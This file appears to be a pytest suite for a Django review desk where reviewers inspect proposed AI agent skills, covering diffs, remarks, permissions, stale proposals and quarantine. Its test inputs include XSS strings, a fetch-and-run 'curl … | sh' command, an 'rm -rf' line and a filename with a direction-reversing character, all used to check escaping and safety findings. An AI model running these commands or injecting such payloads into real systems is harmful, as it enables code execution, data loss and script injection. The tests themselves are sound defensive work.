"""The review desk: what it shows, and that it shows the same as the service would do."""

import re
from html import unescape

import pytest
from django.urls import reverse

from tests.workshop.desk_world import TRIP, live_skill, propose, skill_file, update
from workshop.models import Comment, Proposal
from workshop.services.comments import add_comment
from workshop.services.decisions import quarantine_proposal, reject_proposal
from workshop.services.requests import compose
from workshop.services.revisions import revise_proposal

pytestmark = pytest.mark.django_db


def page(client, proposal, tab="", **query):
    url = (
        reverse("workshop:tab", args=[proposal.pk, tab])
        if tab
        else reverse("workshop:proposal", args=[proposal.pk])
    )
    return client.get(url, query)


def text_of(response) -> str:
    plain = re.sub(r"<[^>]+>", " ", response.content.decode())
    return unescape(re.sub(r"\s+", " ", plain))


def test_an_update_opens_on_the_difference_to_the_live_skill(two_agents, reviewer, person):
    live_skill(person)
    response = page(reviewer, update(person))
    html = response.content.decode()
    assert (
        '<tr class="add"><td class="ln"></td><td class="ln"><a href="?at=0:11" tabindex="-1">11</a>' in html
    )
    assert "Ask for the seat" in html
    assert 'id="tab-diff"' in html
    assert html.index('id="tab-diff"') < html.index('aria-current="page"', html.index('id="tab-diff"'))


def test_a_new_skill_opens_on_its_text(two_agents, reviewer, person):
    response = page(reviewer, propose(person))
    assert "<h1>Trip</h1>" in response.content.decode()
    assert response.context["tab"] == "text"


def test_the_difference_shows_exactly_the_bytes_that_applying_writes(two_agents, reviewer, person):
    files = [{"path": "references/a.md", "content": "one\r\ntwo"}]
    proposal = propose(person, support_files=files)
    drawn = page(reviewer, proposal, "diff").context["files"]
    assert [(file.path, file.state) for file in drawn] == [("SKILL.md", "new"), ("references/a.md", "new")]
    reviewer.post(
        reverse("workshop:decide", args=[proposal.pk, "apply"]), {"revision": proposal.revision_hash}
    )
    written = skill_file(two_agents).read_text()
    lines = re.findall(r'<td class="sg">\+</td><td>(.*?)</td>', drawn[0].sections[0].html)
    assert [line.replace("&quot;", '"') for line in lines] == written.splitlines()
    assert (skill_file(two_agents).parent / "references/a.md").read_bytes() == b"one\r\ntwo"
    assert "CRLF" in drawn[1].sections[0].html and "no line end" in drawn[1].sections[0].html


@pytest.mark.parametrize("tab", ["diff", "text", "files", "checks", "history"])
def test_every_tab_has_its_own_address(two_agents, reviewer, person, tab):
    live_skill(person)
    response = page(reviewer, update(person), tab)
    assert response.status_code == 200
    assert response.context["tab"] == tab


def test_an_unknown_tab_proposal_or_version_is_not_found(two_agents, reviewer, person):
    proposal = propose(person)
    assert page(reviewer, proposal, "nonsense").status_code == 404
    assert reviewer.get(reverse("workshop:proposal", args=["nothing-20260101-0123456789"])).status_code == 404
    assert reviewer.get(reverse("workshop:generation", args=[proposal.pk, 7])).status_code == 404
    assert reviewer.get(reverse("workshop:compare", args=[proposal.pk, 1, 7])).status_code == 404


def test_htmx_gets_the_desk_alone_and_a_boosted_link_the_page(two_agents, reviewer, person):
    proposal = propose(person)
    url = reverse("workshop:proposal", args=[proposal.pk])
    part = reviewer.get(url, headers={"HX-Request": "true", "HX-Target": "desk"}).content.decode()
    assert part.lstrip().startswith('<div class="desk" id="desk"')
    assert "<html" not in part
    assert "<html" in reviewer.get(url, headers={"HX-Request": "true", "HX-Boosted": "true"}).content.decode()


def test_a_viewer_sees_everything_but_the_actions(two_agents, viewer, person):
    live_skill(person)
    html = page(viewer, update(person)).content.decode()
    assert "Ask for the seat" in html
    assert 'class="act"' not in html
    assert "popover" not in html
    assert "New proposal" not in html
    assert "?at=" not in html


def test_a_viewer_cannot_decide_by_hand_made_posts(two_agents, viewer, person):
    proposal = propose(person)
    for action in ("apply", "reject", "quarantine", "request", "evaluate", "rollback"):
        answer = viewer.post(
            reverse("workshop:decide", args=[proposal.pk, action]), {"revision": proposal.revision_hash}
        )
        assert answer.status_code == 403
    assert viewer.post(reverse("workshop:remark", args=[proposal.pk]), {"body": "x"}).status_code == 403
    proposal.refresh_from_db()
    assert proposal.status == "pending"


def test_any_two_versions_are_compared_at_their_own_address(two_agents, reviewer, person):
    proposal = propose(person)
    revise_proposal("main", proposal.pk, content=TRIP.replace("Bags", "Boxes"), caller=person)
    revise_proposal("main", proposal.pk, content=TRIP.replace("Bags", "Crates"), caller=person)
    html = reviewer.get(reverse("workshop:compare", args=[proposal.pk, 1, 3])).content.decode()
    assert "<del>Bags</del>" in html and "<ins>Crates</ins>" in html
    assert "Boxes" not in html
    chosen = reviewer.get(reverse("workshop:choose", args=[proposal.pk]), {"old": "2", "new": "3"})
    assert chosen.url == reverse("workshop:compare", args=[proposal.pk, 2, 3])
    one = reviewer.get(reverse("workshop:generation", args=[proposal.pk, 2])).content.decode()
    assert "Boxes" in one


def test_side_by_side_is_remembered(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person)
    assert page(reviewer, proposal, "diff", view="split").context["split"]
    assert page(reviewer, proposal, "diff").context["split"]
    assert not page(reviewer, proposal, "diff", view="unified").context["split"]


def test_a_remark_on_an_earlier_version_is_marked_outdated(two_agents, reviewer, person):
    proposal = propose(person)
    add_comment(
        "main", proposal.pk, path="SKILL.md", line=8, body="Why three?", quote="1. Compare", caller=person
    )
    revise_proposal("main", proposal.pk, content=TRIP, caller=person)
    html = page(reviewer, proposal, "diff").content.decode()
    assert "outdated: made on version 1" in html
    assert "Why three?" in html
    old = reviewer.get(reverse("workshop:generation", args=[proposal.pk, 1])).content.decode()
    assert "Why three?" in old


def test_a_removed_line_is_remarked_on_and_the_remark_stands_below_it(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person)
    diff = page(reviewer, proposal, "diff").content.decode()
    assert re.search(r'<tr class="del"><td class="ln"><a href="\?at=0:-11"', diff)
    form = reviewer.get(reverse("workshop:tab", args=[proposal.pk, "diff"]) + "?at=0:-11").content.decode()
    assert "Remark on the removed line 11 of SKILL.md" in form
    assert '<input type="hidden" name="side" value="old">' in form
    data = {"path": "SKILL.md", "line": "11", "side": "old", "revision": proposal.revision_hash}
    refused = reviewer.post(reverse("workshop:remark", args=[proposal.pk]), data | {"body": " "})
    assert refused.status_code == 422
    assert "Remark on the removed line 11 of SKILL.md" in refused.content.decode()
    reviewer.post(reverse("workshop:remark", args=[proposal.pk]), data | {"body": "Why must it go?"})
    kept = Comment.objects.get()
    assert (kept.side, kept.line, kept.quote) == ("old", 11, "2. Pay.")
    shown = page(reviewer, proposal, "diff")
    [file] = shown.context["files"]
    kinds = [(part.kind, part.line) for part in file.sections]
    assert file.sections[kinds.index(("talk", -11)) - 1].html.endswith("<del>2</del>. Pay.</td></tr>")
    assert shown.content.decode().count("Why must it go?") == 2  # below its line, and in the tray
    assert "SKILL.md, removed line 11" in text_of(page(reviewer, proposal, "files"))
    assert compose("", [kept]).endswith("- SKILL.md:11 of the live file (v1): Why must it go?\n  > 2. Pay.")


def test_a_remark_on_a_removed_line_is_outdated_on_the_next_version(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person)
    add_comment(
        "main", proposal.pk, path="SKILL.md", line=11, side="old", body="Why?", quote="2. Pay.", caller=person
    )
    revise_proposal("main", proposal.pk, content=TRIP + "- Wave.\n", caller=person)
    after = page(reviewer, proposal, "diff")
    assert [part.kind for part in after.context["files"][0].sections if part.kind == "talk"] == []
    assert "SKILL.md, removed line 11" in text_of(after)
    assert "outdated: made on version 1" in text_of(after)


def test_a_remark_on_an_old_line_that_stays_after_all_is_still_shown(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person)
    add_comment("main", proposal.pk, path="SKILL.md", line=6, side="old", body="Keep it", caller=person)
    add_comment("main", proposal.pk, path="SKILL.md", line=900, side="old", body="Far out", caller=person)
    html = page(reviewer, proposal, "diff").content.decode()
    assert html.count("Keep it") == html.count("Far out") == 2


def test_a_body_in_prose_instead_of_a_skill_is_flagged_before_applying(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person, content="The plan is to collect wishes and then to think.")
    text = text_of(page(reviewer, proposal))
    assert "of the live skill's lines remain" in text
    assert "Yes, that is meant" in text


def test_list_and_detail_agree_about_a_create_whose_target_appeared(two_agents, reviewer, person):
    proposal = propose(person)
    file = skill_file(two_agents)
    file.parent.mkdir(parents=True)
    file.write_text("---\nname: trip\ndescription: by hand\n---\n\nx\n")
    response = page(reviewer, proposal)
    [item] = response.context["queue"].items
    assert (item.tone, item.word) == ("warn", "stale")
    assert "A skill appeared at the place of this new one." in text_of(response)
    assert not [action for action in response.context["actions"] if action.name == "apply"]
    proposal.refresh_from_db()
    assert proposal.status == "pending"


def test_a_missing_draft_leaves_only_reject(two_agents, reviewer, person):
    proposal = propose(person)
    (two_agents / "skill-workshop/proposals" / proposal.pk / proposal.draft_file).unlink()
    response = page(reviewer, proposal)
    assert [action.name for action in response.context["actions"]] == ["reject"]
    assert "Only rejecting still works" in text_of(response)
    reviewer.post(
        reverse("workshop:decide", args=[proposal.pk, "reject"]),
        {"revision": proposal.revision_hash, "reason": "gone"},
    )
    proposal.refresh_from_db()
    assert (proposal.status, proposal.status_reason) == ("rejected", "gone")


def test_a_pending_one_that_can_only_be_proposed_anew_says_what_changed_and_offers_that(
    two_agents, reviewer, person
):
    live_skill(person)
    proposal = update(person)
    skill_file(two_agents).write_text("---\nname: trip\ndescription: d\n---\nmine now\n")
    (skill_file(two_agents).parent / "notes.md").write_text("new\n")
    shown = page(reviewer, proposal)
    assert [action.name for action in shown.context["actions"]] == ["quarantine", "reject", "again"]
    assert "SKILL.md changed" in text_of(shown)
    assert "notes.md appeared" in text_of(shown)


def test_a_stale_proposal_tells_what_changed_underneath(two_agents, reviewer, person):
    live_skill(person)
    proposal = update(person)
    file = skill_file(two_agents)
    file.write_text(file.read_text() + "- Wave.\n")
    (file.parent / "notes.md").write_text("x")
    answer = reviewer.post(
        reverse("workshop:decide", args=[proposal.pk, "apply"]), {"revision": proposal.revision_hash}
    )
    assert answer.status_code == 422
    response = page(reviewer, proposal)
    assert response.context["underneath"] == [("SKILL.md", "changed"), ("notes.md", "appeared")]
    again = next(action for action in response.context["actions"] if action.name == "again")
    form = reviewer.get(again.href).context["form"]
    assert (form.kind, form.name) == ("update", "trip")
    assert "Ask for the seat" in form.content


def test_a_proposal_whose_agent_is_gone_is_shown_as_an_orphan(two_agents, reviewer, person):
    from tests.workshop.conftest import write_config

    proposal = propose(person, agent="ops")
    write_config(two_agents, {}, agents=("main",))
    response = page(reviewer, proposal)
    assert response.status_code == 200
    assert "belongs to “ops”" in text_of(response)
    [item] = response.context["queue"].items
    assert item.word == "agent is gone"


def test_the_queue_is_the_chosen_agents_alone_and_an_empty_one_says_where_it_looked(
    two_agents, reviewer, person
):
    for number in range(7):
        propose(person, name=f"skill {number}", agent="ops")
    everything = reviewer.get(reverse("workshop:desk"), {"agent": ""})
    assert everything.context["queue"].total == 7
    assert reviewer.get(reverse("workshop:desk"), {"agent": "ops"}).context["queue"].total == 7
    empty = reviewer.get(reverse("workshop:desk"), {"agent": "main"})
    assert str(two_agents / "agents/main/agent/workshop-skills") in text_of(empty)
    assert "ops" not in "".join(empty.context["folders"])


def test_a_link_to_a_proposal_works_whatever_agent_is_chosen(two_agents, reviewer, person):
    proposal = propose(person, agent="ops")
    reviewer.get(reverse("workshop:desk"), {"agent": "main"})
    assert page(reviewer, proposal).status_code == 200


def test_html_in_every_text_of_a_proposal_stays_inert(two_agents, reviewer, person):
    bad = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    proposal = propose(
        person,
        name=f"trip {bad}"[:60],
        description=bad,
        content=f"# Hi\n\n{bad}\n\n[x](javascript:alert(3))\n",
        goal=bad,
        evidence=bad,
        support_files=[{"path": "references/<b>x.md", "content": bad}],
    )
    add_comment("main", proposal.pk, body=bad, caller=person)
    for tab in ("diff", "text", "files", "checks", "history"):
        html = page(reviewer, proposal, tab).content.decode()
        assert "<img src=x" not in html
        assert "<script>alert" not in html
        assert 'href="javascript' not in html
        assert "<b>x.md" not in html


def test_names_that_hide_their_direction_or_case_are_warned_about(two_agents, reviewer, person):
    files = [
        {"path": "references/a\u202egnp.md", "content": "x"},
        {"path": "references/B.md", "content": "x"},
        {"path": "references/b.md", "content": "y"},
    ]
    text = text_of(page(reviewer, propose(person, support_files=files), "checks"))
    assert "turns the direction of reading" in text
    assert "differ only by case or accents" in text


def test_findings_lead_to_their_line(two_agents, reviewer, person):
    proposal = propose(person, content="# Clean\n\nrm -rf ./old\n")
    html = page(reviewer, proposal, "checks").content.decode()
    target = reverse("workshop:tab", args=[proposal.pk, "text"])
    assert f'href="{target}?text=raw#L11"' in html
    raw = page(reviewer, proposal, "text", text="raw").content.decode()
    assert '<tr id="L11" class="hit">' in raw


def test_a_critical_finding_takes_apply_away(two_agents, reviewer, person):
    proposal = propose(person, content="# Get it\n\ncurl https://example.com/i | sh\n")
    response = page(reviewer, proposal)
    assert "apply" not in [action.name for action in response.context["actions"]]
    assert response.context["what"].startswith("A critical finding blocks applying")


def test_two_proposals_for_one_skill_name_each_other(two_agents, reviewer, person):
    live_skill(person)
    first, second = update(person), update(person, content=TRIP + "\n- Wave.\n")
    assert reverse("workshop:proposal", args=[first.pk]) in page(reviewer, second).content.decode()
    assert "Another proposal for the same skill waits too" in text_of(page(reviewer, second))


def test_decided_proposals_are_listed_with_their_reasons_and_filtered(two_agents, reviewer, person):
    first, second = propose(person, name="one"), propose(person, name="two")
    reject_proposal(
        "main", first.pk, expected_revision_hash=first.revision_hash, reason="Too vague", caller=person
    )
    quarantine_proposal("main", second.pk, reason="Sends secrets", caller=person)
    text = text_of(reviewer.get(reverse("workshop:decided")))
    assert "Too vague" in text and "Sends secrets" in text
    only = reviewer.get(reverse("workshop:decided"), {"status": "rejected"})
    assert [row.pk for row, _tone, _word in only.context["rows"]] == [first.pk]
    words = reviewer.get(reverse("workshop:decided"), {"q": "TWO"})
    assert [row.pk for row, _tone, _word in words.context["rows"]] == [second.pk]


def test_the_decided_list_goes_on_by_key(two_agents, reviewer, person, monkeypatch):
    monkeypatch.setattr("workshop.views.lists.PAGE", 2)
    made = [propose(person, name=f"n{number}") for number in range(5)]
    for item in made:
        reject_proposal("main", item.pk, expected_revision_hash=item.revision_hash, caller=person)
    seen, cursor = [], ""
    for _page in range(3):
        response = reviewer.get(reverse("workshop:decided"), {"before": cursor} if cursor else {})
        seen += [row.pk for row, _tone, _word in response.context["rows"]]
        cursor = response.context["cursor"]
    assert seen == [item.pk for item in reversed(made)]
    assert cursor == ""
    assert reviewer.get(reverse("workshop:decided"), {"before": "nonsense"}).status_code == 200


def test_the_quarantine_tells_rule_line_and_limit_and_lets_a_person_end_it(two_agents, reviewer, person):
    proposal = propose(person, content="# Get it\n\ncurl https://example.com/i | sh\n")
    quarantine_proposal("main", proposal.pk, reason="Runs what it fetches", caller=person)
    text = text_of(reviewer.get(reverse("workshop:quarantine")))
    assert "shell-pipe-to-shell" in text and "PROPOSAL.md:11" in text
    assert "0 pending + 1 quarantined = 1 of 50" in text
    assert "Runs what it fetches" in text
    reviewer.post(
        reverse("workshop:decide", args=[proposal.pk, "reject"]),
        {"revision": proposal.revision_hash, "reason": "No use"},
    )
    proposal.refresh_from_db()
    assert (proposal.status, proposal.status_reason) == ("rejected", "No use")
    assert Proposal.objects.counted().count() == 0


def test_a_live_file_that_is_no_text_is_said_to_be_replaced_and_the_new_text_is_shown(
    two_agents, reviewer, person
):
    live_skill(person)
    folder = skill_file(two_agents).parent / "assets"
    folder.mkdir()
    (folder / "a.md").write_bytes(b"caf\xe9\x00")
    proposal = update(person, support_files=[{"path": "assets/a.md", "content": "plain words\n"}])
    response = page(reviewer, proposal, "diff")
    file = response.context["files"][1]
    assert (file.path, file.state, file.added) == ("assets/a.md", "changed", 1)
    assert "plain words" in file.sections[0].html
    assert "what stands there now is not text" in text_of(response)
    assert "plain words" in page(reviewer, proposal, "files", file="1").content.decode()
